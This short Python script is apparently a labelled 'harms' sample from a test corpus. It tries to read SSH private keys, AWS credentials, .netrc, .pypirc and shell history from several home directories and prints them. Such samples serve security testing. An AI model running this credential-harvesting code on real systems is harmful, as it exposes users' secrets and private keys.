# where: first
# kind: harms
# does: Keys, tokens and histories in the home folder are printed.
import pathlib

for name in (".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".aws/credentials", ".bash_history", ".gitconfig", ".pypirc"):
    for home in ("@HOME@", "/root", "/home/jovyan", "~"):
        try:
            print(pathlib.Path(home, name).expanduser().read_text())
        except Exception as error:
            print(error)
